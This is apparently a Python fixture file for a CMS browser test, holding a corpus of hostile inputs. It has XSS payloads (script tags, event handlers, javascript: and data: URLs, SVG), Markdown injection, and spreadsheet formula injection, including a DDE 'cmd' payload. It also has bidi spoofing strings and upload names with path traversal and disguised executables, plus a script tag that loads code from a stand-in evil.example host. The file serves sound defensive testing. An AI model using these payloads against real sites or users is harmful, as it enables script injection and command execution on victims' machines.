"""A corpus of hostile inputs, for the browser test that puts each through every field an
editor writes and every public surface (tests/browser/test_hostile_corpus.py).

Each input is (category, text). A script that runs sets `window.__xss` or opens a dialog;
the test fails on either, on any console error and on any element an input injects.
"""

from __future__ import annotations

SCRIPTS = [
    "<script>window.__xss='script'</script>",
    "<SCRIPT>alert('upper')</SCRIPT>",
    "<scr<script>ipt>window.__xss='nested'</scr</script>ipt>",
    "</title><script>window.__xss='title-break'</script>",
    '"><script>window.__xss="attr-break"</script>',
    "'><script>window.__xss='single-quote-break'</script>",
    "</textarea><script>window.__xss='textarea-break'</script>",
    "</script><script>window.__xss='script-break'</script>",
    "<script src=//evil.example/x.js></script>",
    "\\u003cscript\\u003ewindow.__xss='unicode-escaped'\\u003c/script\\u003e",
    "&lt;script&gt;window.__xss='entity'&lt;/script&gt;",
    "<style>@import 'javascript:alert(1)';</style>样式",
]
EVENT_HANDLERS = [
    "<img src=x onerror=\"window.__xss='img'\">",
    "<svg onload=alert('svg-onload')>",
    "<body onload=alert('body')>",
    "<details open ontoggle=\"window.__xss='details'\">",
    "<video><source onerror=\"window.__xss='video'\"></video>",
    '" autofocus onfocus="window.__xss=\'autofocus\'" x="',
    "' onmouseover='window.__xss=1' '",
    "<input autofocus onfocus=alert('input')>",
    "<marquee onstart=alert('marquee')>走马灯</marquee>",
    "<div style=\"width:expression(alert('css'))\">样式表达式</div>",
    '<a href="#" onclick="window.__xss=\'click\'">点击</a>',
    "<iframe srcdoc=\"<script>parent.__xss='srcdoc'</script>\"></iframe>",
]
JAVASCRIPT_URLS = [
    "javascript:window.__xss='js-url'",
    "JaVaScRiPt:alert('mixed-case')",
    "java\tscript:alert('tab')",
    "&#106;avascript:alert('entity-url')",
    " javascript:alert('leading-space')",
    "vbscript:msgbox('vb')",
    "<a href=\"javascript:alert('a-js')\">链接</a>",
]
DATA_URLS = [
    "data:text/html,<script>alert('data-html')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<a href=\"data:text/html,<script>alert('a-data')</script>\">数据链接</a>",
    "<object data=\"data:text/html,<script>alert('object')</script>\"></object>",
]
SVG = [
    "<svg><script>window.__xss='svg-script'</script></svg>",
    "<svg><animate onbegin=\"window.__xss='animate'\" attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('svg-a')\"><text x=20 y=20>点</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='mxss'\">",
    "<svg><foreignObject><iframe src=\"javascript:alert('fo')\"></iframe></foreignObject></svg>",
]
MARKDOWN_AND_LINKS = [
    "[点我](javascript:window.__xss='md-link')",
    "[点我](<javascript:alert('md-angle')>)",
    "![图](x\" onerror=\"window.__xss='md-img')",
    "<https://evil.example/?<script>alert('autolink')</script>>",
    "[参考]: javascript:alert('ref')\n\n[参考]",
    "](javascript:alert('close-bracket'))",
    "# 伪造标题\n\n---\n\n* 列表",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "]]><script>window.__xss='cdata'</script><![CDATA[",
    "<!-- 注释 --><!--<script>alert('comment')</script>-->",
    "https://example.gov.cn/a?q=<b>粗</b>&x=>",
    "[链接](https://example.gov.cn/a<b>c)",
]
FORMULA_CELLS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","点击")',
]
BIDI_AND_ZERO_WIDTH = [
    "\u202egpj.exe运城示例公司",
    "运城\u200b示例\u200c机械\u200d有限公司",
    "\u2066隔离\u2069\u2067方向\u2069",
    "\ufeff带字节顺序标记",
    "\u061c阿拉伯字母标记\u200e\u200f",
]
LONG_STRINGS = [
    "长" * 5000,
    "A" * 20000,
    "<b>" * 2000,
]
NULL_BYTES = [
    "空\x00字符",
    "\x00<script>window.__xss='null'</script>",
]

CORPUS: list[tuple[str, str]] = [
    *(("script", text) for text in SCRIPTS),
    *(("event handler", text) for text in EVENT_HANDLERS),
    *(("javascript: URL", text) for text in JAVASCRIPT_URLS),
    *(("data: URL", text) for text in DATA_URLS),
    *(("SVG", text) for text in SVG),
    *(("Markdown or link injection", text) for text in MARKDOWN_AND_LINKS),
    *(("formula cell", text) for text in FORMULA_CELLS),
    *(("bidi or zero-width", text) for text in BIDI_AND_ZERO_WIDTH),
    *(("very long", text) for text in LONG_STRINGS),
    *(("null byte", text) for text in NULL_BYTES),
]

# Hostile files for the evidence upload: (name, bytes, content type).
FILES = [
    ("../../../etc/passwd.jpg", b"root:x:0:0:root:/root:/bin/bash\n", "image/jpeg"),
    ("<img src=x onerror=alert(1)>.png", b"\x89PNG\r\n\x1a\nnot really", "image/png"),
    ("证据.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
    ("page.html", b"<script>alert(1)</script>", "text/html"),
    ("report.pdf.exe", b"MZ\x90\x00\x03", "application/octet-stream"),
    ("\u202egpj.exe", b"MZ\x90\x00", "image/jpeg"),
    ("CON.txt", b"\x00" * 16, "text/plain"),
]


def stored(text: str, limit: int | None = None) -> str:
    """`text` as a field stores it: no null byte (the admin refuses one, with a message:
    tests/cms/security/test_null_bytes.py) and at most `limit` characters."""
    text = text.replace("\x00", "")
    return text[:limit] if limit else text
